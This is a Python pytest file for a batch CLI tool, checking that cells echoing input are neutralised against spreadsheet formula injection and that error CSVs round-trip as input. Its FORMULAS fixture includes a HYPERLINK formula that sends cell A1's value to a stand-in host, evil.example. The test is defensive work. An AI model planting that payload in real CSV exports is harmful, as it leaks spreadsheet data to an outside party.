"""CSV outputs open in a spreadsheet without formulas (OWASP "CSV injection", CWE-1236).

Cells that echo input are neutralised with a leading ``'``; API values and valid
IDs never are; an errors CSV given back as INPUT shows the values as first read.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from batch.engine import Failure, Item, QuietLogger, Result, Stats, neutralise, original
from batch.input import KeyFilter
from batch.output._records import RecordFormat, RunRecords
from jobs import WORKER_TOKENS
from tests.conftest import StartSim
from tests.helpers import ENV, new_ids, read_jsonl, run_cli

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+SUM(1+1)", "-2+3", "@SUM(1)"]


@pytest.mark.parametrize(
    ("text", "written"),  # written reversibly (an invalid row's ID)
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # looks neutralised already: one more, so that reading back is exact
        ("'a", "'a"),
        ("a=1", "a=1"),
        ("", ""),
        ("3f2504e0-4f89-11d3-9a0c-0305e82c3301", "3f2504e0-4f89-11d3-9a0c-0305e82c3301"),
    ],
)
def test_neutralise_and_back(text: str, written: str) -> None:
    assert neutralise(text, reversible=True) == written
    assert original(written) == (text if written != text else None)
    if not text.startswith("'"):
        assert neutralise(text) == written


def test_a_message_quoting_a_value_is_not_quoted_twice() -> None:
    assert neutralise("'=1' is not a UUID") == "'=1' is not a UUID"


def _cells(line: str) -> dict[str, str]:
    header = RecordFormat("csv", RunRecords(WORKER_TOKENS)).columns
    return dict(zip(header, next(csv.reader(io.StringIO(line))), strict=True))


def test_api_values_and_valid_ids_are_written_exactly() -> None:
    """A base64url token may start with '-': a program reading the CSV must get it as issued."""
    fmt = RecordFormat("csv", RunRecords(WORKER_TOKENS))
    pid = "3f2504e0-4f89-11d3-9a0c-0305e82c3301"
    ok = Result(pid, 2, "ok", 1, data={"token": "-tok=+@", "expires_at": "2026-11-30T00:00:00Z"})
    assert _cells(fmt.line(ok))["token"] == "-tok=+@"
    failed = Result(pid, 3, "error", 5, error=Failure("http", "=boom", 404, "-req-1"))
    cells = _cells(fmt.line(failed))
    assert (cells["profile_id"], cells["error_api_req_id"]) == (pid, "-req-1")
    assert cells["error_message"] == "'=boom"  # a message for people: never a formula
    invalid = Result("=1+1", 4, "error", 0, error=Failure("invalid_input", "-x"))
    cells = _cells(fmt.line(invalid))
    assert (cells["profile_id"], cells["error_message"]) == ("'=1+1", "'-x")


def test_jsonl_is_not_changed() -> None:
    fmt = RecordFormat("jsonl", RunRecords(WORKER_TOKENS))
    invalid = Result("=1+1", 4, "error", 0, error=Failure("invalid_input", "-x"))
    assert '"profile_id": "=1+1"' in fmt.line(invalid)
    assert '"message": "-x"' in fmt.line(invalid)


def test_errors_csv_columns_are_neutralised_too() -> None:
    fmt = RecordFormat("csv", RunRecords(WORKER_TOKENS), errors=True)
    line = fmt.line(Result("@SUM(1)", 2, "error", 0, error=Failure("invalid_input", "x")))
    assert line.startswith("'@SUM(1),0,2,invalid_input,")


def test_input_reads_a_quote_before_a_formula_as_a_spreadsheet_does() -> None:
    """``'=1`` in an input is ``=1`` shown as text (an errors CSV, or typed in a spreadsheet)."""
    keys = KeyFilter(WORKER_TOKENS, Stats(), QuietLogger())
    result = keys.check(2, " '=1 ")
    assert isinstance(result, Result)
    assert (result.key, result.error) == (
        "=1",
        Failure("invalid_input", "'=1' is not a UUID (expected 8-4-4-4-12 hex digits)"),
    )
    # It was not an ID before and is not one now, even if what follows the quote would be.
    pid = new_ids(1)[0]
    result = keys.check(3, "'\t" + pid)
    assert isinstance(result, Result)
    assert result.error is not None
    assert result.error.kind == "invalid_input"
    assert isinstance(keys.check(4, pid), Item)


def _bad_input(path: Path, ids: list[str]) -> Path:
    with path.open("w", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(["profile_id", "email"])
        writer.writerows([[value, "x@example.com"] for value in [*FORMULAS, *ids]])
    return path


def test_failed_csv_given_back_as_input_shows_the_original_values(
    sim: StartSim, tmp_path: Path
) -> None:
    api = sim(rate=None)
    src = _bad_input(tmp_path / "in.csv", new_ids(2))
    failed = tmp_path / "failed.csv"
    first = run_cli("worker-tokens", str(src), "-o", str(tmp_path / "out.csv"), "--errors",
                    str(failed), "--base-url", api.base_url, "--log-format", "json", env=ENV)  # fmt: skip
    assert first.exit_code == 1, first.stderr
    with failed.open(newline="") as handle:
        written = [row["profile_id"] for row in csv.DictReader(handle)]
    assert written == ["'" + value for value in FORMULAS]

    again = run_cli("worker-tokens", str(failed), "-o", str(tmp_path / "again.jsonl"),
                    "--base-url", api.base_url, "--log-format", "json", env=ENV)  # fmt: skip
    assert again.exit_code == 1, again.stderr
    records = read_jsonl(tmp_path / "again.jsonl")
    assert [r["profile_id"] for r in records] == FORMULAS
    for record, value in zip(records, FORMULAS, strict=True):
        assert record["error"]["kind"] == "invalid_input"
        assert (
            record["error"]["message"]
            == f"{value!r} is not a UUID (expected 8-4-4-4-12 hex digits)"
        )
    assert again.event("run_finished")["requests"] == 0


def test_resume_of_a_csv_results_file_records_a_neutralised_row_once(
    sim: StartSim, tmp_path: Path
) -> None:
    api = sim(rate=None)
    src = _bad_input(tmp_path / "in.csv", new_ids(2))
    out = tmp_path / "out.csv"
    args = [
        "worker-tokens",
        str(src),
        "-o",
        str(out),
        "--base-url",
        api.base_url,
        "--log-format",
        "json",
    ]
    assert run_cli(*args, env=ENV).exit_code == 1
    before = out.read_text()
    again = run_cli(*args, "--resume", env=ENV)
    assert again.exit_code == 1, again.stderr
    assert out.read_text() == before  # the invalid rows were recognised, not written again
    assert again.event("run_finished")["invalid"] == len(FORMULAS)
